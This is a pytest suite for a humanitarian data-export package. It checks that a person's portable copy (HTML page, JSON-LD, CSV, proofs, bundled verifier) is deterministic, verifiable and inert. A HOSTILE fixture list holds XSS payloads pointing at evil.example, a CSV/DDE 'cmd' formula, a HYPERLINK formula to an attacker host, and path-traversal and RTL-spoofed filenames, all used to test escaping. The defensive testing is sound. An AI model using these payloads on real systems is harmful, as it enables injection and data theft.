"""The copy that a person takes away: readable, parseable, provable, and harmless whatever is in it."""

from __future__ import annotations

import base64
import csv
import hashlib
import io
import json
import re
import subprocess
import sys
import tomllib
import zipfile
from dataclasses import fields, replace
from datetime import UTC, date, datetime, timedelta, timezone
from html.parser import HTMLParser
from itertools import pairwise
from pathlib import Path, PurePosixPath
from string import Formatter
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from tests.rules.allow.receipts import (
    AUTHORITY,
    BY_GUARDIAN,
    CLINIC,
    DAY,
    GIVEN,
    HOUSE,
    PUBLIC_KEY,
    RECEIPT,
    signed,
)
from tests.rules.keep.journals import KEY, cosigned, head, journal_of, policy_of

from resguardo.allow.portable import (
    LONGEST_CELL,
    Attachment,
    CopiedAnswer,
    CopiedConsent,
    CopiedProgramme,
    CopiedPurpose,
    CopiedRecord,
    Opening,
    PersonsCopy,
    attachment_path,
    portable_zip,
)
from resguardo.allow.receipt import ConsentEvent, EventState, verify_receipt
from resguardo.keep import verifier
from resguardo.keep.checkpoint import NotACheckpoint, read_checkpoint
from resguardo.keep.journal import Act, HeldEntry, Outcome, accesses_of, chain_hash, read_entry
from resguardo.keep.proof import Prover
from resguardo.keep.tree import leaf_hash
from resguardo.values import LANGUAGES, PACKAGE, Basis, InstitutionKind, Refused, Sensitivity

TITLE = {"es": "Registro de una persona", "en": "Registration of a person"}
NAME = CopiedAnswer(
    {"es": "¿Cómo se llama?", "en": "What is your name?"}, "name", Sensitivity.IDENTIFIER, "Ana", "Ana"
)
AGE = CopiedAnswer({"es": "Edad", "en": "Age", "ht": "Laj"}, "age", Sensitivity.QUASI, "31", 31)
NEEDS = CopiedAnswer(
    {"es": "¿Qué necesita?"}, "needs", Sensitivity.SENSITIVE, "Médico, Techo", ["doctor", "roof"]
)
RECORD = CopiedRecord("assistance", "registration", TITLE, DAY, date(2029, 11, 20), (NAME, AGE, NEEDS))
ENTRIES = journal_of(43).entries
MARK = str(read_entry(ENTRIES[0]).subj)
MINE = accesses_of(ENTRIES, MARK)
PROVER = Prover([leaf_hash(entry) for entry in ENTRIES], read_checkpoint(cosigned(head(ENTRIES), "a", "b")))
PROOFS = tuple(PROVER.prove(access.index, ENTRIES[access.index]).text for access in MINE)
PLACE = timezone(timedelta(hours=-6))
OPENINGS = tuple(
    Opening(
        when=access.leaf.t.astimezone(PLACE),
        role={"es": "Trabajadora social", "en": "Case worker"},
        institution="Casa Tres Ríos",
        act=access.leaf.act,
        outcome=access.leaf.dec,
        purpose={"es": "Atenderle", "en": "To look after you"},
        groups=frozenset({Sensitivity.IDENTIFIER, Sensitivity.QUASI}),
        entry=access.index,
    )
    for access in MINE
)
COPY = PersonsCopy(
    reference="12-2026",
    institution=HOUSE,
    made_on=DAY,
    programmes=(
        CopiedProgramme(
            "assistance",
            {"es": "Protección y asistencia", "en": "Protection and assistance"},
            (
                CopiedPurpose({"es": "Atenderle"}, Basis.CONSENT, frozenset(Sensitivity)),
                CopiedPurpose(
                    {"es": "Proteger a la niñez"},
                    Basis.LEGAL_OBLIGATION,
                    frozenset({Sensitivity.QUASI}),
                    (InstitutionKind.MINISTRY, CLINIC),
                ),
            ),
        ),
    ),
    records=(RECORD,),
    consents=(
        CopiedConsent(
            {"es": "Atenderle"}, (GIVEN, ConsentEvent(EventState.WITHDRAWN, DAY + timedelta(days=3)))
        ),
        CopiedConsent({"es": "Pedir un servicio"}, (BY_GUARDIAN,), CLINIC, date(2027, 1, 31)),
    ),
    openings=OPENINGS,
    journal_key=policy_of("a", "b", "c"),
    signature_key=PUBLIC_KEY,
    proofs=PROOFS,
    held=(MINE[3].held,),
    receipts=(signed(RECEIPT),),
    attachments=(Attachment("cédula.JPG", b"\xff\xd8\xff"),),
    authority=AUTHORITY,
)


class Page(HTMLParser):
    """What a browser would make of a page: tags with attributes, texts, and whether they nest."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.texts: list[str] = []
        self.open: list[str] = []
        self.feed(html)
        self.close()
        assert self.open == []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {name: value or "" for name, value in attrs}))
        if tag not in ("meta", "br"):
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag

    def handle_data(self, data: str) -> None:
        if self.open and self.open[-1] != "style":
            self.texts.append(data)

    def named(self, tag: str) -> list[dict[str, str]]:
        return [attributes for name, attributes in self.tags if name == tag]

    @property
    def text(self) -> str:
        return "".join(self.texts)


def files_of(copy: PersonsCopy, language: str = "es") -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(portable_zip(copy, language))) as archive:
        assert archive.testzip() is None
        return {name: archive.read(name) for name in archive.namelist()}


def page_of(copy: PersonsCopy, language: str = "es") -> Page:
    return Page(files_of(copy, language)["leame.html"].decode("utf-8"))


def rows_of(copy: PersonsCopy, language: str = "es") -> list[list[str]]:
    return list(
        csv.reader(io.StringIO(files_of(copy, language)["datos.csv"].decode("utf-8-sig"), newline=""))
    )


FILES = files_of(COPY)


def with_answer(text: str, **members: Any) -> PersonsCopy:
    answer = replace(NAME, shown=text, value=text, **members)
    return replace(COPY, records=(replace(RECORD, answers=(answer,)),))


# The package


def test_the_package_holds_what_it_says_and_the_page_comes_first() -> None:
    assert next(iter(FILES)) == "leame.html"
    fixed = {name for name in FILES if not name.startswith("pruebas/")}
    assert fixed == {
        *("leame.html", "datos.jsonld", "datos.csv", "registro.json", "CHECKSUMS"),
        *("llaves/bitacora.txt", "llaves/comprobantes.txt", "comprobantes/01.jsonld"),
        *("adjuntos/01-cedula.jpg", "verificar/verifier.py", "verificar/LEAME.txt"),
    }
    assert len(FILES) - len(fixed) == len(PROOFS) > 5


@pytest.mark.parametrize("language", LANGUAGES)
def test_the_same_copy_gives_the_same_bytes(language: str) -> None:
    assert portable_zip(COPY, language) == portable_zip(COPY, language)
    with zipfile.ZipFile(io.BytesIO(portable_zip(COPY, language))) as archive:
        assert {entry.date_time for entry in archive.infolist()} == {(1980, 1, 1, 0, 0, 0)}


def test_every_path_stays_inside_and_is_plain_ascii() -> None:
    for name in FILES:
        assert re.fullmatch(r"[A-Za-z0-9_./-]+", name)
        assert ".." not in name
        assert not PurePosixPath(name).is_absolute()


def test_the_checksums_are_those_of_every_other_file() -> None:
    told = dict(reversed(line.split("  ")) for line in FILES["CHECKSUMS"].decode().splitlines())
    assert told == {
        name: hashlib.sha256(octets).hexdigest() for name, octets in FILES.items() if name != "CHECKSUMS"
    }


def test_the_receipts_are_as_they_were_signed() -> None:
    public_key = base64.b64decode(FILES["llaves/comprobantes.txt"])
    assert verify_receipt(FILES["comprobantes/01.jsonld"].decode(), public_key)


# The page


@pytest.mark.parametrize("language", LANGUAGES)
def test_the_page_has_its_language_one_first_heading_and_no_gap_in_headings(language: str) -> None:
    page = page_of(COPY, language)
    assert page.named("html") == [{"lang": language}]
    assert [tag for tag, _ in page.tags].count("h1") == 1
    levels = [int(tag[1]) for tag, _ in page.tags if re.fullmatch(r"h[1-6]", tag)]
    assert levels[0] == 1
    assert all(after <= before + 1 for before, after in pairwise(levels))
    assert len(page.named("title")) == len(page.named("main")) == 1


@pytest.mark.parametrize("language", LANGUAGES)
def test_the_page_asks_nothing_of_anybody_and_runs_nothing(language: str) -> None:
    page = page_of(COPY, language)
    tags = {tag for tag, _ in page.tags}
    assert not tags & {"script", "img", "iframe", "link", "object", "embed", "form", "base", "video", "audio"}
    for _, attributes in page.tags:
        assert not [
            name for name in attributes if name.startswith("on") or name in ("src", "style", "srcset")
        ]
        assert all(
            re.fullmatch(r"adjuntos/[A-Za-z0-9_.-]+", attributes[name])
            for name in attributes
            if name == "href"
        )
    text = files_of(COPY, language)["leame.html"].decode()
    assert "http" not in text.replace("http-equiv", "").replace(AUTHORITY.contact, "")
    assert "url(" not in text


def test_the_page_forbids_everything_but_its_own_sheet() -> None:
    text = FILES["leame.html"].decode()
    style = re.search(r"<style>(.*?)</style>", text)
    assert style
    digest = base64.b64encode(hashlib.sha256(style[1].encode()).digest()).decode()
    (policy,) = [each["content"] for each in page_of(COPY).named("meta") if "http-equiv" in each]
    assert policy == f"default-src 'none'; base-uri 'none'; form-action 'none'; style-src 'sha256-{digest}'"


def test_the_page_tells_who_keeps_what_why_and_until_when() -> None:
    text = page_of(COPY).text
    for told in (
        "Lo guarda Casa Tres Ríos.",
        "Dirección: Calle 3, Tapachula.",
        "Solo con su permiso.",
        "Para esto no pedimos permiso: la ley nos obliga.",
        "Lo puede recibir un ministerio.",
        "Lo puede recibir Clínica del Sur.",
        "Lo recibimos el sábado 21 de noviembre de 2026.",
        "Se guarda hasta el martes 20 de noviembre de 2029.",
    ):
        assert told in text


def test_the_page_has_every_answer_with_its_question() -> None:
    page = FILES["leame.html"].decode()
    for answer in RECORD.answers:
        assert f"<dt>{answer.label['es']}</dt><dd><bdi>{answer.shown}</bdi></dd>" in page


def test_the_page_has_every_consent_and_who_answered() -> None:
    text = page_of(COPY).text
    assert "Usted dijo que sí. Fue el sábado 21 de noviembre de 2026." in text
    assert "Usted retiró este permiso. Fue el martes 24 de noviembre de 2026." in text
    assert "La persona que le cuida dijo que sí." in text
    assert "Usted también dijo que sí." in text
    assert "Dura hasta el domingo 31 de enero de 2027." in text


def test_the_page_has_every_opening_by_role_purpose_time_and_outcome() -> None:
    openings = (
        replace(OPENINGS[0], outcome=Outcome.DENY, when=datetime(2026, 11, 20, 14, 5, tzinfo=PLACE)),
        replace(OPENINGS[1], outcome=Outcome.BREAK_GLASS, when=datetime(2026, 11, 21, 9, 0, tzinfo=PLACE)),
    )
    text = page_of(replace(COPY, openings=openings)).text
    assert text.count("Trabajadora social, de Casa Tres Ríos") == 2
    assert "No se permitió. No vio nada." in text
    assert "Se abrió por una emergencia." in text
    assert "viernes 20 de noviembre de 2026, 14:05 (UTC-06:00)" in text
    assert "Para: Atenderle." in text
    assert text.index("21 de noviembre de 2026, 09:00") < text.index("20 de noviembre de 2026, 14:05")


def test_a_member_of_staff_has_no_place_in_an_opening() -> None:
    assert {each.name for each in fields(Opening)} == {
        *("when", "role", "institution", "act", "outcome", "purpose", "groups", "entry"),
    }


def test_words_in_another_language_than_the_page_are_marked_so() -> None:
    page = files_of(COPY, "ht")["leame.html"].decode()
    assert '<dt><span lang="es">¿Cómo se llama?</span></dt>' in page
    assert "<dt>Laj</dt>" in page


@pytest.mark.parametrize("language", LANGUAGES)
def test_every_act_and_outcome_has_its_words(language: str) -> None:
    for act in Act:
        for outcome in Outcome:
            opening = replace(
                OPENINGS[0], act=act, outcome=outcome, purpose=None, groups=frozenset(), entry=None
            )
            assert "{" not in page_of(replace(COPY, openings=(opening,)), language).text


def test_an_empty_copy_says_so_in_every_part() -> None:
    empty = replace(
        COPY,
        programmes=(),
        records=(),
        consents=(),
        openings=(),
        proofs=(),
        held=(),
        receipts=(),
        attachments=(),
    )
    text = page_of(empty).text
    for told in (
        "No guardamos ninguna respuesta suya.",
        "No hay ningún permiso anotado.",
        "Nadie los ha abierto.",
        "Esta copia no trae las pruebas del registro.",
    ):
        assert told in text
    files = files_of(empty)
    assert json.loads(files["registro.json"])["entries"] == []
    assert len(rows_of(empty)) == 1
    assert not [name for name in files if name.split("/")[0] in ("pruebas", "comprobantes", "adjuntos")]
    for name in ("pruebas/", "comprobantes/", "adjuntos/"):
        assert f"<code>{name}</code>" not in files["leame.html"].decode()


def test_a_question_without_an_answer_says_so() -> None:
    assert "Sin respuesta" in page_of(with_answer("")).text


# For machines


def test_the_answers_are_json_by_form_and_name_with_their_values() -> None:
    document = json.loads(FILES["datos.jsonld"])
    (record,) = document["rgd:record"]
    assert (record["rgd:form"], record["rgd:until"]) == ("registration", "2029-11-20")
    assert {each["dct:identifier"]: each["rgd:value"] for each in record["rgd:answer"]} == {
        "name": "Ana",
        "age": 31,
        "needs": ["doctor", "roof"],
    }
    assert [each["dpv:hasConsentStatus"][-1]["@type"] for each in document["rgd:consent"]] == [
        "dpv:ConsentWithdrawn",
        "dpv:ConsentGiven",
    ]
    assert all(isinstance(value, (str, dict)) for value in document["@context"].values())


def test_the_table_has_one_row_per_answer() -> None:
    rows = rows_of(COPY)
    assert len(rows) == 1 + len(RECORD.answers)
    assert rows[1] == [
        *("Registro de una persona", "2026-11-21", "¿Cómo se llama?", "name"),
        *("quién es usted y cómo encontrarle", "Ana"),
    ]
    assert FILES["datos.csv"].startswith(b"\xef\xbb\xbf")


@given(
    st.recursive(
        st.none()
        | st.booleans()
        | st.integers()
        | st.floats(allow_nan=False, allow_infinity=False)
        | st.text(),
        lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(), inner, max_size=3),
        max_leaves=5,
    )
)
@settings(max_examples=40)
def test_any_value_comes_back_from_the_json(value: Any) -> None:
    copy = replace(COPY, proofs=(), records=(replace(RECORD, answers=(replace(NAME, value=value),)),))
    (answer,) = json.loads(files_of(copy)["datos.jsonld"])["rgd:record"][0]["rgd:answer"]
    assert answer["rgd:value"] == value


# The journal and its proofs


def test_the_journal_lists_every_use_with_the_file_that_proves_it() -> None:
    document = json.loads(FILES["registro.json"])
    assert [each["index"] for each in document["entries"]] == [access.index for access in MINE]
    assert all(each["proof"] in FILES for each in [*document["entries"], *document["openings"]])
    assert [each["hash"] for each in document["entries"]] == [
        chain_hash(ENTRIES[each.index]) for each in MINE
    ]
    assert document["whole"] is True
    assert "Entre esos números no falta ninguno." in page_of(COPY).text


def test_a_use_that_is_left_out_is_said() -> None:
    without = replace(COPY, proofs=PROOFS[:2] + PROOFS[3:])
    assert json.loads(files_of(without)["registro.json"])["whole"] is False
    assert "falta una vez" in page_of(without).text


def test_the_newest_use_left_out_is_said_when_a_receipt_speaks_of_it() -> None:
    cut = replace(COPY, proofs=PROOFS[:-1], held=())
    assert json.loads(files_of(cut)["registro.json"])["whole"] is True
    held = replace(cut, held=(MINE[-1].held,))
    assert json.loads(files_of(held)["registro.json"])["whole"] is False
    assert (
        json.loads(files_of(replace(COPY, held=(HeldEntry(MARK, 1, "00" * 16),)))["registro.json"])["whole"]
        is False
    )


def run_order(folder: Path, order: str) -> subprocess.CompletedProcess[str]:
    """An order of the copy as it is told to a person, with an interpreter that sees nothing of ours."""
    words = order.split()
    assert words[0] == "python"
    return subprocess.run(
        [sys.executable, "-I", "-W", "error", *words[1:]],
        cwd=folder,
        capture_output=True,
        text=True,
        check=False,
    )


def unpacked(copy: PersonsCopy, folder: Path) -> list[str]:
    """The orders that the copy tells to type, in a folder where it was unpacked."""
    with zipfile.ZipFile(io.BytesIO(portable_zip(copy, "es"))) as archive:
        archive.extractall(folder)
    told = (folder / "verificar" / "LEAME.txt").read_text(encoding="utf-8")
    return [line.strip() for line in told.splitlines() if line.startswith("    ")]


@pytest.mark.parametrize("key", [KEY, policy_of("a", "b", "c")], ids=["key", "policy"])
def test_the_packed_verifier_runs_alone_and_accepts_every_proof(key: str, tmp_path: Path) -> None:
    orders = unpacked(replace(COPY, journal_key=key), tmp_path)
    assert len(orders) == len(PROOFS)
    for order, access in list(zip(orders, MINE, strict=True))[:3]:
        told = run_order(tmp_path, order)
        assert told.returncode == 0, told.stdout + told.stderr
        assert "The entry is in the journal" in told.stdout
        assert ENTRIES[access.index].decode() in told.stdout


def test_the_packed_verifier_takes_the_heads_of_witnesses(tmp_path: Path) -> None:
    heads = (cosigned(head(ENTRIES[:20]), "a"), cosigned(head(ENTRIES), "b"))
    orders = unpacked(replace(COPY, witness_heads=heads), tmp_path)
    told = run_order(tmp_path, orders[0])
    assert told.returncode == 0, told.stdout + told.stderr


def test_the_packed_verifier_refuses_a_proof_that_was_changed(tmp_path: Path) -> None:
    orders = unpacked(COPY, tmp_path)
    path = tmp_path / orders[0].split()[3]
    entry = re.search("extra (.*)", path.read_text())
    assert entry
    other = base64.b64encode(base64.b64decode(entry[1]).replace(b'"allow"', b'"deny"')).decode()
    path.write_text(path.read_text().replace(entry[1], other), newline="")
    assert run_order(tmp_path, orders[0]).returncode == 1


def test_the_packed_verifier_is_the_houses_own_file() -> None:
    assert FILES["verificar/verifier.py"] == Path(verifier.__file__).read_bytes()


def test_the_checksums_are_read_by_the_usual_program(tmp_path: Path) -> None:
    unpacked(COPY, tmp_path)
    told = subprocess.run(
        ["sha256sum", "--strict", "-c", "CHECKSUMS"], cwd=tmp_path, capture_output=True, check=False
    )
    assert told.returncode == 0, told.stderr


def test_a_proof_that_carries_no_entry_or_is_none_makes_no_copy() -> None:
    bare = re.sub("extra .*\n", "", PROOFS[0])
    with pytest.raises(Refused):
        portable_zip(replace(COPY, proofs=(bare,)), "es")
    with pytest.raises(NotACheckpoint):
        portable_zip(replace(COPY, proofs=("c2sp.org/tlog-proof@v1\n",)), "es")


# Hostile content

HOSTILE = (
    "<script>alert(1)</script>",
    '"><img src=https://evil.example/x onerror=alert(1)>',
    "</style></title></dd></main><iframe src=//evil.example>",
    "<!--",
    "]]>&lt;b&gt;&amp;",
    "javascript:alert(1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/"&A1)',
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    " \n=1+1",
    "＝1+1",
    '"=1+1',
    "'=1+1",
    "../../x",
    "\u202egnp.exe",
    "\u2066\u2067\u202e",
    "\x00\x01\x1b[31m",
    "\ud800",
    "\ufffe\uffff",
    "{institution} {0} %s",
    "\ue0000\ue001 \ue0001\ue001",
    "🙂" * 50,
)


@pytest.mark.parametrize("text", HOSTILE)
def test_what_a_person_wrote_is_shown_letter_by_letter_and_runs_nothing(text: str) -> None:
    label = {"es": text}
    copy = replace(
        with_answer(text, label=label, name=text),
        reference=text,
        institution=replace(HOUSE, name=text, address=text, contact=text),
        openings=(replace(OPENINGS[0], role=label, institution=text, purpose=label),),
        consents=(CopiedConsent(label, (GIVEN,), replace(CLINIC, name=text)),),
        attachments=(Attachment(text, b"x"),),
        proofs=(),
        held=(),
    )
    files = files_of(copy)
    page, usual = (
        Page(files["leame.html"].decode("utf-8")),
        page_of(replace(with_answer("Ana"), proofs=(), held=())),
    )
    assert {tag for tag, _ in page.tags} <= {tag for tag, _ in usual.tags} | {"i", "a"}
    for _, attributes in page.tags:
        assert set(attributes) <= {"lang", "href", "charset", "name", "content", "http-equiv"}
    visible = re.sub(
        "[\x00-\x08\x0b-\x1f\x7f-\x9f\ud800-\udfff\ufdd0-\ufdef\ufffe\uffff]",
        "\ufffd",
        text.replace("\r", "\n"),
    )
    assert page.texts.count(visible) >= 5
    (answer,) = json.loads(files["datos.jsonld"])["rgd:record"][0]["rgd:answer"]
    assert answer["rgd:value"] == answer["rgd:shown"] == text
    for row in rows_of(copy)[1:]:
        for cell in row:
            assert not re.match(r"^[\s\"]*[=+\-@＝＋－＠]", cell)
    assert all(re.fullmatch(r"[A-Za-z0-9_./-]+", name) and ".." not in name for name in files)


def test_numbers_and_telephones_stay_as_they_are_in_the_table() -> None:
    for text in ("-5", "+50255551234", "3.5", "2026-11-21"):
        assert rows_of(with_answer(text))[1][-1] == text


def test_a_text_of_a_million_letters_is_whole_on_the_page_and_cut_in_the_table() -> None:
    text = "á<" * 500_000
    copy = replace(with_answer(text), proofs=(), openings=())
    files = files_of(copy)
    assert text in Page(files["leame.html"].decode()).texts
    assert json.loads(files["datos.jsonld"])["rgd:record"][0]["rgd:answer"][0]["rgd:value"] == text
    cell = rows_of(copy)[1][-1]
    assert cell == text[:LONGEST_CELL] + " … (completo en datos.jsonld)"
    assert len(cell) < 32_767
    assert len(portable_zip(copy, "es")) < 100_000


@given(st.text(max_size=60))
@settings(max_examples=60)
def test_any_text_leaves_the_page_whole(text: str) -> None:
    copy = replace(with_answer(text, label={"es": text or "x"}), proofs=(), held=())
    page = page_of(copy)
    assert [tag for tag, _ in page.tags].count("dl") == 1
    assert len(rows_of(copy)) == 2


@pytest.mark.parametrize(
    ("name", "path"),
    [
        ("foto.jpg", "adjuntos/01-foto.jpg"),
        ("../../etc/passwd", "adjuntos/01-passwd.bin"),
        ("C:\\Windows\\evil.exe", "adjuntos/01-evil.bin"),
        ("a.html", "adjuntos/01-a.bin"),
        ("a.svg", "adjuntos/01-a.bin"),
        ("a.jpg.js", "adjuntos/01-a_jpg.bin"),
        (".htaccess", "adjuntos/01-htaccess.bin"),
        ("", "adjuntos/01-archivo.bin"),
        ("foto\u202egpj.exe", "adjuntos/01-fotogpj.bin"),
        ("写真.png", "adjuntos/01-archivo.png"),
        ("a" * 500 + ".pdf", "adjuntos/01-" + "a" * 40 + ".pdf"),
        ("CON.txt", "adjuntos/01-CON.txt"),
    ],
)
def test_an_attachment_lies_under_a_harmless_name(name: str, path: str) -> None:
    assert attachment_path(1, name) == path


def test_two_attachments_of_one_name_are_both_there() -> None:
    copy = replace(COPY, attachments=(Attachment("a.jpg", b"1"), Attachment("a.jpg", b"2")))
    files = files_of(copy)
    assert (files["adjuntos/01-a.jpg"], files["adjuntos/02-a.jpg"]) == (b"1", b"2")


def test_a_copy_never_shows_answers_when_it_is_printed_in_a_log() -> None:
    secret = with_answer("Canaria 555")
    assert "Canaria" not in repr(secret)
    assert "555" not in repr(secret.records)


def test_the_time_told_is_the_time_of_the_place() -> None:
    when = datetime(2026, 11, 22, 1, 30, tzinfo=UTC).astimezone(PLACE)
    text = page_of(replace(COPY, openings=(replace(OPENINGS[0], when=when),))).text
    assert "sábado 21 de noviembre de 2026, 19:30 (UTC-06:00)" in text


@pytest.mark.parametrize("language", LANGUAGES)
@pytest.mark.parametrize("section", ["receipt", "portable"])
def test_what_the_person_reads_is_there_in_all_four_languages_with_the_same_blanks(
    section: str, language: str
) -> None:
    def said(tongue: str) -> dict[str, set[str]]:
        path = PACKAGE / "allow" / "words" / f"{tongue}.toml"
        sentences = tomllib.loads(path.read_text(encoding="utf-8"))[section]
        return {
            key: {name for _, name, _, _ in Formatter().parse(text) if name}
            for key, text in sentences.items()
        }

    assert said(language) == said("es")


def test_the_files_of_a_copy_are_documented() -> None:
    formats = (PACKAGE.parents[1] / "docs" / "formats.md").read_text(encoding="utf-8")
    folders = {name.partition("/")[0] + "/" * ("/" in name) for name in FILES}
    assert {name for name in folders if f"`{name}" not in formats} == set()
